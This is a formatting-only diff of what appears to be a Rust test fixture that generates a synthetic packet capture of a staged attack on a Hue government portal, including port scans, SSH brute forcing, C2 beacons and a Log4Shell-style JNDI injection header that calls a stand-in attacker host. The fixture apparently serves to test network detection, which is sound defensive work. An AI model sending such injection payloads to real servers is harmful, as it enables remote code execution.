@@ -6,7 +6,9 @@
 
 use std::net::{Ipv4Addr, SocketAddrV4};
 
-use super::{dns_message, eth_ipv4, icmp_echo, tls_client_hello, udp_datagram, Capture, TcpSession};
+use super::{
+    dns_message, eth_ipv4, icmp_echo, tls_client_hello, udp_datagram, Capture, TcpSession,
+};
 
 /// 2026-10-14 08:00:00 in Asia/Ho_Chi_Minh (01:00 UTC).
 pub const START_US: i64 = 1_791_939_600_000_000;
@@ -52,7 +54,11 @@ pub fn capture() -> Capture {
 
     // Act 1 — 08:00: a SYN sweep of the finance portal, 200 ports.
     for (i, port) in (1..=200u16).map(|p| p * 5).enumerate() {
-        let mut s = TcpSession::new(sa(SCANNER, 40_000 + i as u16), sa(PORTAL, port), secs(10) + i as i64 * 20_000);
+        let mut s = TcpSession::new(
+            sa(SCANNER, 40_000 + i as u16),
+            sa(PORTAL, port),
+            secs(10) + i as i64 * 20_000,
+        );
         if matches!(port, 80 | 443) {
             s.handshake();
         } else {
@@ -65,12 +71,19 @@ pub fn capture() -> Capture {
         let e = icmp_echo(true, 0x4a4a, seq, b"gatewatch-probe");
         cap.push(secs(5) + seq as i64 * 1_000_000, eth_ipv4(SCANNER, PORTAL, 1, &e, 100 + seq));
         let r = icmp_echo(false, 0x4a4a, seq, b"gatewatch-probe");
-        cap.push(secs(5) + seq as i64 * 1_000_000 + 800, eth_ipv4(PORTAL, SCANNER, 1, &r, 200 + seq));
+        cap.push(
+            secs(5) + seq as i64 * 1_000_000 + 800,
+            eth_ipv4(PORTAL, SCANNER, 1, &r, 200 + seq),
+        );
     }
 
     // Act 2 — 08:05: SSH password guessing against the health department's server.
     for i in 0..30u16 {
-        let mut s = TcpSession::new(sa(BRUTEFORCER, 51_000 + i), sa(SSH_SERVER, 22), secs(300) + i as i64 * 2_000_000);
+        let mut s = TcpSession::new(
+            sa(BRUTEFORCER, 51_000 + i),
+            sa(SSH_SERVER, 22),
+            secs(300) + i as i64 * 2_000_000,
+        );
         s.handshake()
             .server_send(b"SSH-2.0-OpenSSH_8.9p1 Ubuntu-3ubuntu0.6\r\n")
             .client_send(b"SSH-2.0-libssh2_1.10.0\r\n")
@@ -87,8 +100,16 @@ pub fn capture() -> Capture {
         b"POST /api/login HTTP/1.1\r\nHost: portal.stc.hue.gov.vn\r\nX-Api-Version: ${jndi:rmi://203.0.113.77/x}\r\nContent-Length: 2\r\n\r\n{}",
     ];
     for (i, req) in exploits.iter().enumerate() {
-        let mut s = TcpSession::new(sa(EXPLOITER, 46_000 + i as u16), sa(PORTAL, 80), secs(600) + i as i64 * 30_000_000);
-        let status: &[u8] = if i == 1 { b"HTTP/1.1 404 Not Found\r\nContent-Length: 0\r\n\r\n" } else { b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: 13\r\n\r\n<html></html>" };
+        let mut s = TcpSession::new(
+            sa(EXPLOITER, 46_000 + i as u16),
+            sa(PORTAL, 80),
+            secs(600) + i as i64 * 30_000_000,
+        );
+        let status: &[u8] = if i == 1 {
+            b"HTTP/1.1 404 Not Found\r\nContent-Length: 0\r\n\r\n"
+        } else {
+            b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: 13\r\n\r\n<html></html>"
+        };
         s.handshake().client_send(req).server_send(status).close();
         cap.add(s.into_frames());
     }
@@ -98,14 +119,39 @@ pub fn capture() -> Capture {
         let q = dns_message(0x5100 + i, C2_NAME, None);
         let a = dns_message(0x5100 + i, C2_NAME, Some(C2));
         let t = secs(1200) + i as i64 * 60_000_000;
-        cap.push(t, eth_ipv4(WORKSTATION, RESOLVER, 17, &udp_datagram(WORKSTATION, RESOLVER, 53_000 + i, 53, &q), 300 + i));
-        cap.push(t + 2_000, eth_ipv4(RESOLVER, WORKSTATION, 17, &udp_datagram(RESOLVER, WORKSTATION, 53, 53_000 + i, &a), 400 + i));
+        cap.push(
+            t,
+            eth_ipv4(
+                WORKSTATION,
+                RESOLVER,
+                17,
+                &udp_datagram(WORKSTATION, RESOLVER, 53_000 + i, 53, &q),
+                300 + i,
+            ),
+        );
+        cap.push(
+            t + 2_000,
+            eth_ipv4(
+                RESOLVER,
+                WORKSTATION,
+                17,
+                &udp_datagram(RESOLVER, WORKSTATION, 53, 53_000 + i, &a),
+                400 + i,
+            ),
+        );
     }
 
     // Act 5 — 08:21: TLS beacons to the C2 server, once a minute.
     for i in 0..5u16 {
-        let mut s = TcpSession::new(sa(WORKSTATION, 49_700 + i), sa(C2, 443), secs(1201) + i as i64 * 60_000_000);
-        s.handshake().client_send(&tls_client_hello(C2_NAME)).server_send(&[0x16, 0x03, 0x03, 0x00, 0x04, 0x0e, 0, 0, 0]).close();
+        let mut s = TcpSession::new(
+            sa(WORKSTATION, 49_700 + i),
+            sa(C2, 443),
+            secs(1201) + i as i64 * 60_000_000,
+        );
+        s.handshake()
+            .client_send(&tls_client_hello(C2_NAME))
+            .server_send(&[0x16, 0x03, 0x03, 0x00, 0x04, 0x0e, 0, 0, 0])
+            .close();
         cap.add(s.into_frames());
     }
 
@@ -131,16 +177,32 @@ pub fn capture() -> Capture {
 
 /// Ordinary traffic: citizens' portal visits, DNS of government names, pings.
 fn background(cap: &mut Capture) {
-    let names = ["hue.gov.vn", "dichvucong.gov.vn", "thuathienhue.gov.vn", "vnexpress.net", "mail.hue.gov.vn"];
+    let names = [
+        "hue.gov.vn",
+        "dichvucong.gov.vn",
+        "thuathienhue.gov.vn",
+        "vnexpress.net",
+        "mail.hue.gov.vn",
+    ];
     for i in 0..40u16 {
         let client = Ipv4Addr::new(10, 46, 100 + (i % 20) as u8, 10 + (i % 7) as u8);
         let t = secs(i as i64 * 45);
         let name = names[i as usize % names.len()];
         let q = dns_message(0x1000 + i, name, None);
         let a = dns_message(0x1000 + i, name, Some(Ipv4Addr::new(10, 46, 10, 20)));
-        cap.push(t, eth_ipv4(client, RESOLVER, 17, &udp_datagram(client, RESOLVER, 33_000 + i, 53, &q), i));
-        cap.push(t + 1_500, eth_ipv4(RESOLVER, client, 17, &udp_datagram(RESOLVER, client, 53, 33_000 + i, &a), i));
-        let mut s = TcpSession::new(SocketAddrV4::new(client, 50_000 + i), SocketAddrV4::new(PORTAL, 80), t + 5_000);
+        cap.push(
+            t,
+            eth_ipv4(client, RESOLVER, 17, &udp_datagram(client, RESOLVER, 33_000 + i, 53, &q), i),
+        );
+        cap.push(
+            t + 1_500,
+            eth_ipv4(RESOLVER, client, 17, &udp_datagram(RESOLVER, client, 53, 33_000 + i, &a), i),
+        );
+        let mut s = TcpSession::new(
+            SocketAddrV4::new(client, 50_000 + i),
+            SocketAddrV4::new(PORTAL, 80),
+            t + 5_000,
+        );
         s.handshake()
             .client_send(b"GET /thu-tuc-hanh-chinh HTTP/1.1\r\nHost: portal.stc.hue.gov.vn\r\nUser-Agent: Mozilla/5.0\r\n\r\n")
             .server_send(b"HTTP/1.1 200 OK\r\nContent-Type: text/html; charset=utf-8\r\nContent-Length: 30\r\n\r\n<html>Th\xe1\xbb\xa7 t\xe1\xbb\xa5c h\xc3\xa0nh</html>")
@@ -151,6 +213,9 @@ fn background(cap: &mut Capture) {
         let t = secs(seq as i64 * 120);
         let src = Ipv4Addr::new(10, 46, 1, 10);
         cap.push(t, eth_ipv4(src, PORTAL, 1, &icmp_echo(true, 7, seq, b"monitoring"), 900 + seq));
-        cap.push(t + 500, eth_ipv4(PORTAL, src, 1, &icmp_echo(false, 7, seq, b"monitoring"), 950 + seq));
+        cap.push(
+            t + 500,
+            eth_ipv4(PORTAL, src, 1, &icmp_echo(false, 7, seq, b"monitoring"), 950 + seq),
+        );
     }
 }
